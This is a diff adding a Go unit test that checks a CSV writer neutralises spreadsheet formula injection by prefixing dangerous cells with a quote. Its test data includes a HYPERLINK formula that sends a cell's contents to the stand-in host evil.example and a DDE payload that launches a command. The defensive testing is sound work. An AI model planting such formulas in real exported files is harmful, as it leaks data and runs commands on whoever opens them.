@@ -159,3 +159,33 @@ func scanCells(b []byte) []int {
 	}
 	return out
 }
+
+// TestNeutralise: every cell a spreadsheet would evaluate gets a leading
+// quote, in both writer set-ups, and import-csv takes it off again.
+func TestNeutralise(t *testing.T) {
+	cells := []string{`=HYPERLINK("http://evil.example/?"&A2,"click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
+		"\tx", "\rx", "＝1+1", "＋1", "－1", "＠SUM(A1)", "'=1", "''@x"}
+	for _, c := range cells {
+		if Neutralise(c) != "'"+c {
+			t.Errorf("Neutralise(%q) = %q", c, Neutralise(c))
+		}
+		if unescapeCell(Neutralise(c)) != c {
+			t.Errorf("%q does not read back", c)
+		}
+	}
+	for _, c := range []string{"Lyon", " =1", "'Lyon", "", "1-2"} {
+		if Neutralise(c) != c || unescapeCell(c) != c {
+			t.Errorf("%q changed", c)
+		}
+	}
+	var b bytes.Buffer
+	w, err := NewWriterOptions(&b, Options{Comma: ',', LF: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w.Write([]string{"a", cells[0]})
+	w.Flush()
+	if got := b.String(); got != `a,"'=HYPERLINK(""http://evil.example/?""&A2,""click"")"`+"\n" {
+		t.Fatalf("written %q", got)
+	}
+}
